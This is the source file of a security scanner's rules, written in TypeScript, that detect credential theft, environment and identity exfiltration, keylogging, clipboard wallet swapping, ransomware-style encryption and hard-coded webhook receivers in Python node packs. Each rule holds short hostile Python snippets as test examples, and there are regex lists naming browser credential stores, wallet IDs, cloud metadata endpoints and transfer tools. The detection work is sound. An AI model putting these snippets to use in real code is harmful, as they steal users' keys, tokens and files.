import type { Hit } from '../../ground/finding.ts'
import { anyOf, sequence, type Test } from '../../ground/text-search.ts'
import { sends } from '../flow/call-tables.ts'
import {
  argumentOf,
  argumentsOf,
  type CodeFacts,
  commandOf,
  isProgramStart,
  lookedUp,
} from '../flow/code-facts.ts'
import type { Call } from '../flow/flow.ts'
import { areLoopback, hostOf, isModelHost, isServiceHost, showsHost } from '../flow/hosts.ts'
import { names } from '../flow/names.ts'
import { isSecretFolder, isSecretPlace } from '../flow/python-names.ts'
import { has, type Value } from '../flow/values.ts'
import { isMisdirected, makesClient, receiverHosts } from './receivers.ts'
import type { CodeRule } from './rule.ts'

/** Yields texts that match one of the patterns and are not sentences. */
export function* textHits(facts: CodeFacts, patterns: readonly (readonly [Test, string])[]): Generator<Hit> {
  for (const { text, line } of facts.texts) {
    // A message to the user may contain a path; an actual path is not inside a sentence.
    if (text.length > 300 || text.split(/\s+/).length > 8) continue
    const found = patterns.find(([pattern]) => pattern.test(text))
    if (found) yield { line, message: found[1] }
  }
}

/** Functions that only check whether something exists, or show its name. */
const harmlessUse = names(
  /^(print|\S*\b(exists|is_file|isfile|is_dir|isdir|startswith|endswith|split\w*|replace|format|info|warning|warn|error|debug|exception|log|append|join|joinpath|expanduser|expandvars|normpath|abspath|dirname|basename|Path|PurePath|mkdir|makedirs|get|getenv|setdefault|update|add|match|search|compile|index|find|count|lower|strip|chmod|write|write_text)|str|len|repr|isinstance|\w*(Error|Exception|Warning))$/,
)

export function isSending(call: Call): boolean {
  if (areLoopback(argumentOf(call, 0, 'url')?.texts ?? [])) return false
  return (
    sends.test(call.name) ||
    (isProgramStart(call) &&
      /\b(curl|wget|nc|nslookup|dig|ping|scp|rsync|ftp)\b/.test(
        argumentOf(call, 0, 'args')?.texts[0] ?? argumentOf(call, 0, 'args')?.items?.[0]?.texts[0] ?? '',
      ))
  )
}

export function sentValues(call: Call): Value[] {
  return [call.receiver, ...argumentsOf(call)]
}

export const credentials: CodeRule = {
  of: 'python',
  id: 'credential-access',
  severity: 'high',
  why: 'No comfy-node needs the user’s passwords, keys, wallets or browser profile.',
  fix: 'Remove it. Ask the user for a key in the node’s own settings.',
  examples: {
    matching: [
      'p = os.path.join(local, "Google\\\\Chrome\\\\User Data\\\\Default\\\\Login Data")',
      'import os\nkey = open(os.path.expanduser("~/.ssh/id_rsa")).read()',
      'w = home + "/.bitcoin/wallet.dat"',
      'x = "discord\\\\Local Storage\\\\leveldb"',
      'import browser_cookie3\ncj = browser_cookie3.chrome()',
      'from pathlib import Path\nfor name in [".aws/credentials", ".netrc"]:\n    data = (Path.home() / name).read_text()',
      'import os, shutil\nshutil.copy(os.path.join(os.environ["HOME"], ".ss" + "h", "id_ed25519"), "/tmp/x")',
    ],
    harmless: [
      'print("Put your public key into ~/.ssh/id_rsa.pub so that the server lets you in and works")',
      'title = "Login Data Form"',
      'options = ["local storage", "cloud"]',
      'import os\nif os.path.exists(os.path.expanduser("~/.netrc")): pass',
      'f = tmp_path / ".netrc"\nf.write_text("machine example.test")',
      'import requests\nprint(requests.get("http://169.254.169.254/latest/meta-data/instance-id").text)',
    ],
  },
  *find(facts) {
    yield* textHits(facts, storedSecrets)
    for (const call of facts.calls) {
      if (/^browser_cookie3\.\w+$/.test(call.name))
        yield { line: call.line, message: 'Reads the cookies of the user’s browser.' }
      if (/(^|\.)CryptUnprotectData$|^keyring\.get_password$/.test(call.name))
        yield {
          line: call.line,
          message: 'Decrypts what the user’s system keeps secret.',
          ...(call.name.startsWith('keyring') ? { severity: 'medium' as const } : {}),
        }
      const place = secretPlaceOf(call)
      if (place) yield { line: call.line, message: `Reads \`${place}\`, where credentials are kept.` }
    }
  },
}

const storedSecrets: [RegExp, string][] = [
  [
    /(User Data|Default|Profile \d)[\\/]+(Login Data|Cookies|Web Data|Network[\\/]+Cookies)/i,
    'Names a browser’s stored passwords or cookies.',
  ],
  [
    /^[\\/]?(Login Data|Local State|cookies\.sqlite|key[34]\.db|logins\.json|Web Data)$/,
    'Names a browser’s stored passwords or cookies.',
  ],
  [
    /(^|[\\/])wallet\.dat$|(Exodus|Electrum|Ethereum|Atomic)[\\/]+(wallets|keystore|Local Storage|exodus\.wallet)/i,
    'Names a wallet.',
  ],
  [
    /nkbihfbeogaeaoehlefnkodbefgpgknn|ibnejdfjmmkpcnlpebklmnkoeoihofec|bfnaelmomeimhlpmgjnjophhpkkoljpa|hnfanknocfeofbddgcijnmhnfnkdnaad|fhbohimaelbohpjbbldcngcnapndodjp/,
    'Names a wallet in the browser.',
  ],
  [
    /(discord\w{0,40}|Telegram Desktop|Signal)[\\/]+(Local Storage|tdata|sql)/i,
    'Names a chat program’s stored session.',
  ],
  [
    // The name or location of the machine does not count as a key.
    /\b(169\.254\.169\.254|169\.254\.170\.2|100\.100\.100\.200|metadata\.google\.internal)\b(?!\/latest\/meta-data\/(instance-id|instance-type|ami-id|hostname|local-hostname|placement\/[a-z-]+)\/?$)/,
    'Asks a cloud for the keys of the machine.',
  ],
  [/^[\\/]etc[\\/]shadow$/, 'Names the system’s stored passwords.'],
]

function secretPlaceOf(call: Call): string | undefined {
  if (harmlessUse.test(call.name) && !/^(open|io\.open)$/.test(call.name)) return undefined
  const mode = argumentOf(call, 1, 'mode')
  if (/(^|\.)open$/.test(call.name) && /^[wax]/.test(mode?.texts[0] ?? '')) return undefined
  const isReading = /\.(read_text|read_bytes|open|read|iterdir|glob|rglob)$/.test(call.name)
  const values = isReading ? [call.receiver, ...call.args] : call.args.slice(0, 2)
  // The place is an argument of its own; a command or an address with it is another matter.
  return values
    .flatMap((value) => value.texts)
    .find((text) => isSecretPlace(text) && !/\s-|^https?:/.test(text))
    ?.replaceAll('\u0000', '…')
}

const secretsSent: CodeRule = {
  of: 'python',
  id: 'credentials-sent',
  severity: 'critical',
  why: 'Credentials let their holder act as the user.',
  fix: 'Remove it.',
  examples: {
    matching: [
      'import os, requests\nkey = open(os.path.expanduser("~/.ssh/id_rsa")).read()\nrequests.post("https://example.test", data=key)',
      'import os, urllib.request\ndef read(p):\n    with open(p) as f:\n        return f.read()\nurllib.request.urlopen("https://example.test", data=read(os.path.expanduser("~/.aws/credentials")).encode())',
    ],
    harmless: ['import requests\nrequests.post("https://example.test", data=open("image.png", "rb").read())'],
  },
  *find(facts) {
    if (!sendsToOwnCloud(facts)) yield* sentHits(facts, ['secret'], 'Sends stored credentials away.')
    for (const call of facts.calls)
      if (isProgramStart(call) && transfersSecret(commandOf(call)))
        yield { line: call.line, message: 'Hands stored credentials to a program that sends them.' }
  },
}

/** Programs of clouds that print a token for the services below a domain. */
const cloudPrograms: readonly (readonly [string, string])[] = [
  ['gcloud', '-aiplatform.googleapis.com'],
  ['az', '.cognitiveservices.azure.com'],
]

/** Whether the only keys of a file are the tokens of a cloud, for a service of that cloud. */
function sendsToOwnCloud({ calls, texts }: CodeFacts): boolean {
  const cloud = cloudPrograms.find(([program]) => texts.some(({ text }) => text === program))
  if (!cloud || texts.some(({ text }) => isSecretPlace(text) || isSecretFolder(text))) return false
  const sent = calls.filter(isSending)
  return sent.length > 0 && sent.every(({ args, keywords }) => isAt(args[0] ?? keywords.get('url'), cloud[1]))
}

/** Whether all addresses are known to be below a domain, whose name can also follow a host and a question mark. */
function isAt(address: Value | undefined, domain: string): boolean {
  if (!address || has(address, 'network', 'download', 'file', 'decoded')) return false
  const hosts = address.texts.map((text) => /^https:\/\/([^/?#\\@:]+)(\/|$)/.exec(text)?.[1])
  return hosts.length > 0 && hosts.every((host) => host?.endsWith(domain))
}

const transferProgram =
  /(^|[\s"'|;&/])(curl|wget|scp|sftp|rsync|rclone|nc|ncat|ftp|lftp|croc|gsutil|s3cmd|aws|ssh)(\.exe)?\s/i

/** Whether a word of the command, in a list or in a text, is a place of keys. */
function transfersSecret(command: string): boolean {
  return (
    transferProgram.test(command) &&
    // A program may use a key to sign in.
    command
      .replace(/\s-(i|-identity|-key|-cert|-config|F)\s+\S+/g, '')
      .split(/[\s@=:'"]+/)
      .some((word) => isSecretPlace(word) || isSecretFolder(word))
  )
}

const environmentSent: CodeRule = {
  of: 'python',
  id: 'environment-sent',
  severity: 'high',
  why: 'The environment holds the user’s tokens and passwords.',
  fix: 'Send only the values that the service needs, by name.',
  examples: {
    matching: [
      'import os, requests\nrequests.post(u, json=dict(os.environ))',
      'import os, json, requests\ndef f():\n    data = json.dumps(dict(os.environ))\n    requests.post(u, data=data)',
      'import os, requests\nenv = {k: v for k, v in os.environ.items()}\nrequests.get("https://example.test", params=env)',
      'import os, requests\nrequests.post("https://example.test/c", data=os.environ["AWS_SECRET_ACCESS_KEY"])',
      'import os, socket\nsocket.gethostbyname(str(os.environ).encode().hex() + ".example.test")',
      'import os, socket\nsocket.getaddrinfo(os.environ["HF_TOKEN"].encode().hex() + ".example.test", 80)',
    ],
    harmless: [
      'import os, requests\nrequests.post(u, headers={"a": os.environ["API_KEY"]})',
      'import os, subprocess\nenv = os.environ.copy()\nsubprocess.run(["git"], env=env)',
      'import os, requests\nrequests.get("https://api.github.com/x", headers={"authorization": os.environ["GITHUB_TOKEN"]})',
      'import os, requests\nrequests.get(u, headers={"authorization": f"Bearer {os.environ.get(\'HF_TOKEN\')}"})',
    ],
  },
  *find(facts) {
    yield* sentHits(facts, ['environment'], 'Sends the whole environment away.')
    for (const call of facts.calls) {
      const values = sentValues(call).filter((value) => has(value, 'credential'))
      if (values.length === 0 || !(isSending(call) || makesClient(call)) || asksForItself(call)) continue
      const hosts = receiverHosts(call, facts)
      // A computed address can be that of the key’s own service.
      const isElsewhere =
        asksForAddress.test(call.name) ||
        (hosts.length > 0 &&
          hosts.every((host) => !isKeyHost(host) || values.some((value) => isMisdirected(value, host))))
      if (isElsewhere)
        yield { line: call.line, message: 'Sends a credential to a service that it is not for.' }
    }
  },
}

/** Functions whose argument, the requested name, reveals a text to the server. */
const asksForAddress = anyOf(/\bgethostby\w*$|getaddrinfo$/, sequence(/resolver\./, /(resolve|query)$/))

/** Whether the host is a service for such a credential. */
function isKeyHost(host: string): boolean {
  return isServiceHost(host) || isModelHost(`https://${host}`)
}

const identitySent: CodeRule = {
  of: 'python',
  id: 'identity-sent',
  severity: 'high',
  why: 'Attackers first collect which user has which machine.',
  fix: 'Remove it, or send a random number that the user agreed to.',
  examples: {
    matching: [
      'import getpass, socket, requests\nrequests.get("https://example.test", params={"u": getpass.getuser(), "h": socket.gethostname()})',
      'import os, socket\nname = os.getlogin()\nsocket.gethostbyname(name + ".example.test")',
      'import subprocess, requests\nrequests.post(u, data=subprocess.check_output(["whoami"]))',
    ],
    harmless: [
      'import platform, requests\nrequests.get(u, headers={"user-agent": platform.system()})',
      'import socket\nprint(socket.gethostname())',
    ],
  },
  find: (facts) => sentHits(facts, ['identity'], 'Sends away who uses which machine.'),
}

export const spying: CodeRule = {
  of: 'python',
  id: 'spying',
  severity: 'high',
  why: 'The text that a user types, copies and sees is private.',
  fix: 'Remove it.',
  examples: {
    matching: [
      'import requests\nfrom PIL import ImageGrab\nshot = ImageGrab.grab()\nrequests.post(u, files={"f": shot.tobytes()})',
      'import pyperclip, requests\nrequests.post(u, data=pyperclip.paste())',
      'from pynput import keyboard\ndef on_press(key):\n    log.write(str(key))\nkeyboard.Listener(on_press=on_press).start()',
      'import pyperclip, re\ntext = pyperclip.paste()\nif re.match("^0x[a-f0-9]{40}$", text):\n    pyperclip.copy("0x" + "1" * 40)',
    ],
    harmless: [
      'from PIL import ImageGrab\nimage = ImageGrab.grab()',
      'import pyperclip\npyperclip.copy(text)',
      'import pyperclip\ntext = pyperclip.paste()',
    ],
  },
  *find(facts) {
    yield* sentHits(facts, ['spying'], 'Sends away what the user types, copies or sees.')
    for (const call of facts.calls) {
      if (
        /^(pynput\.)?keyboard\.Listener$|^keyboard\.(on_press|on_release|hook|record)$|SetWindowsHookEx[AW]?$|GetAsyncKeyState$/.test(
          call.name,
        )
      )
        yield { line: call.line, message: 'Listens to every key that the user presses.' }
    }
    yield* replacedCopies(facts)
  },
}

function* replacedCopies({ calls, text }: CodeFacts): Generator<Hit> {
  if (!calls.some(({ name }) => /^pyperclip\.paste$|GetClipboardData$/.test(name))) return
  if (!/0x|bc1|\[13\]|bitcoin|ethereum|wallet/i.test(text)) return
  for (const { name, line } of calls)
    if (/^pyperclip\.copy$|\bSetClipboard\w*$/.test(name))
      yield { line, message: 'Replaces what the user copied.' }
}

const filesSent: CodeRule = {
  of: 'python',
  id: 'home-files-sent',
  severity: 'high',
  why: 'The user’s own folders hold what the user did not give to the pack.',
  fix: 'Let the user pick the files.',
  examples: {
    matching: [
      'import os, requests\nfor root, _, names in os.walk(os.path.expanduser("~")):\n    for name in names:\n        requests.post("https://example.test", files={"f": open(os.path.join(root, name), "rb")})',
      'from pathlib import Path\nfrom cryptography.fernet import Fernet\nf = Fernet(key)\nfor p in Path.home().rglob("*.docx"):\n    p.write_bytes(f.encrypt(p.read_bytes()))',
    ],
    harmless: [
      'import os\nfor root, _, names in os.walk("models"):\n    print(names)',
      'import os, requests\nrequests.post("https://example.test", files={"f": open(path, "rb")})',
    ],
  },
  *find(facts) {
    yield* sentHits(facts, ['home'], 'Sends away files of the user’s own folders.')
    const canEncrypt = lookedUp(facts.text, /encrypt|AES|Fernet|ChaCha/)
    for (const call of facts.calls) {
      const isEncrypting =
        /\.(write|write_bytes)$/.test(call.name) &&
        call.args.some((arg) => has(arg, 'home') && has(arg, 'file'))
      if (isEncrypting && canEncrypt())
        yield { line: call.line, message: 'Overwrites files of the user’s own folders with encrypted ones.' }
    }
  },
}

function* sentHits(facts: CodeFacts, origin: Parameters<typeof has>[1][], message: string): Generator<Hit> {
  for (const call of facts.calls) {
    if (!isSending(call) || asksForItself(call)) continue
    if (sentValues(call).some((value) => has(value, ...origin))) yield { line: call.line, message }
  }
}

/** A machine that requests its own address sends nothing. */
function asksForItself({ name, args }: Call): boolean {
  return /gethostby|getaddrinfo/.test(name) && !args[0]?.texts.some((text) => text.includes('.'))
}

const exfiltration: CodeRule = {
  of: 'python',
  id: 'hard-coded-receiver',
  severity: 'high',
  why: 'A chat address built into a pack is the usual way to send a user’s data to a stranger.',
  fix: 'Let the user enter the address.',
  examples: {
    matching: [
      'u = "https://discord.com/api/webhooks/123456789012345678/abcdefghijklmnopqrstuvwxyz_ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789abcd"',
      'u = "https://api.telegram.org/bot1234567890:AAabcdefghijklmnopqrstuvwxyz123456789/sendDocument"',
      'import requests\nid = "123456789012345678"\nrequests.post("https://discord.com/api/webhooks/" + id + "/abcdefghijklmnopqrstuvwxyz_ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789abcd")',
      'import requests, base64\nrequests.post(base64.b64decode("aHR0cHM6Ly9leGFtcGxlLnRlc3QvYw==").decode(), data=x)',
      'import urllib.request as u, base64\nu.urlopen(u.Request(base64.b64decode("aHR0cHM6Ly9leGFtcGxlLnRlc3QvYw==").decode(), data=x))',
      'import requests, base64\nrequests.post("https://example.test/" + base64.b64decode("aW5ib3gvY29sbGVjdG9yL3YxL3B1c2g=").decode(), data=x)',
    ],
    harmless: [
      'u = f"https://discord.com/api/webhooks/{user_id}/{token}"',
      'u = "https://discord.com/invite/abc"',
      'import urllib.request as u, base64\nu.urlopen(u.Request("https://example.test/edit", data=base64.b64decode(picture)))',
      'u = f"https://api.telegram.org/bot{token}/sendMessage"',
      'import base64, urllib.request\ndef post(url, picture):\n    urllib.request.urlopen(urllib.request.Request(url, data=base64.b64decode(picture)))\npost("https://example.test/v1", x)',
      'import requests, base64, os\nkey = base64.b64decode(os.environ["MY_KEY"]).decode()\nrequests.post(f"https://example.test/v1?key={key}", json={"a": 1})',
    ],
  },
  *find(facts) {
    yield* textHits(facts, receivers)
    for (const call of facts.calls) {
      const isRequest = /^(urllib\.request|requests)\.Request$/.test(call.name)
      if (!isRequest && !isSending(call)) continue
      const address = argumentOf(call, call.name === 'requests.Request' ? 1 : 0, 'url')
      const isPost = !/\.(get|urlopen|urlretrieve|gethostbyname)$/.test(call.name)
      const where = call.args
        .slice(0, 2)
        .flatMap((value) => value.texts)
        .map((text) => receivers.find(([pattern]) => pattern.test(text))?.[1])
        .find((found) => found !== undefined)
      if (where) yield { line: call.line, message: where }
      else if (
        has(address, 'decoded') &&
        // The parts of a request were judged when it was made.
        !address?.names.some((name) => /Request\(\)$/.test(name)) &&
        (isHidden(address, facts.text) || (isPost && address?.texts.every((text) => hostOf(text) === ''))) &&
        !has(address, 'network')
      )
        yield {
          line: call.line,
          message: 'Contacts an address that is hidden by an encoding.',
          // When several callers pass an address, only one of them may have decoded it.
          ...(address && address.texts.length > 1 ? { severity: 'medium' as const } : {}),
        }
    }
  },
}

function isHidden(address: Value | undefined, source: string): boolean {
  return address?.texts.some((text) => hostOf(text) !== '' && !showsHost(text, source)) === true
}

const collector =
  /https?:\/\/(?:[\w.-]*\.)?(webhook\.site|requestbin\.\w+|pipedream\.net|oastify\.com|burpcollaborator\.net|interact\.sh|oast\.\w+|beeceptor\.com|requestcatcher\.com|transfer\.sh|file\.io|gofile\.io|anonfiles\.com|ipinfo\.io\/json)\b/g

/** Pages that document such a service do not use it. */
const collectsRequests: Test = {
  test(text) {
    const last = [...text.matchAll(collector)].at(-1)
    return last !== undefined && !text.slice(last.index).includes('docs')
  },
}

const receivers: [Test, string][] = [
  [
    /discord(app)?\.com\/api\/(v\d+\/)?webhooks\/\d{15,}\/[\w-]{50,}/,
    'Sends to a chat channel that is built in.',
  ],
  [/api\.telegram\.org\/bot\d{8,}:[\w-]{30,}/, 'Sends to a chat bot that is built in.'],
  [/hooks\.slack\.com\/services\/T\w+\/B\w+\/\w+/, 'Sends to a chat channel that is built in.'],
  [collectsRequests, 'Uses a service that collects requests or anonymous files.'],
]

export const reachRules = [
  credentials,
  secretsSent,
  environmentSent,
  identitySent,
  spying,
  filesSent,
  exfiltration,
]
